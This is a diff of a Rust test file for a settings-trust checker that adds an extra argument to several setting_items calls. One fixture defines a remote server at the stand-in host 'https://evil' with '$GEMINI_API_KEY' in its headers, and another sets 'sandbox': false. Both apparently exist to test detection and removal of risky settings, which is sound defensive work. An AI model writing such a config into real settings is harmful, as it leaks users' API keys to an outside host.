@@ -11,7 +11,7 @@ use crate::{Trust, TrustSource, TrustState, schema};
 const PROJECT: &str = "/no-such-project";
 
 fn names(written: &Value, below: &Value) -> Vec<String> {
-    let found = setting_items(written, below, Path::new(PROJECT));
+    let found = setting_items(written, below, Path::new(PROJECT), &|_| None);
     found.into_iter().map(|found| found.item.name).collect()
 }
 
@@ -214,7 +214,7 @@ fn a_server_tells_what_it_runs() {
         "remote": {"httpUrl": "https://evil", "headers": {"X": "$GEMINI_API_KEY"}},
         "odd": 3,
     }});
-    let found = setting_items(&written, &json!({}), Path::new(PROJECT));
+    let found = setting_items(&written, &json!({}), Path::new(PROJECT), &|_| None);
     let details: Vec<_> = found.iter().map(|found| found.item.detail.as_str()).collect();
     assert_eq!(
         details,
@@ -232,7 +232,7 @@ fn refused_settings_are_taken_out_alone() {
         "mcpServers": {"a": {"command": "x"}, "b.c": {"command": "y"}},
         "tools": {"sandbox": false, "exclude": ["z"]},
     });
-    let items = setting_items(&written, &json!({}), Path::new(PROJECT));
+    let items = setting_items(&written, &json!({}), Path::new(PROJECT), &|_| None);
     let kept = items.iter().find(|found| found.item.name == "b.c").unwrap();
     remove_refused(&mut written, &items, &Accepted::only([&kept.item]));
     assert_eq!(
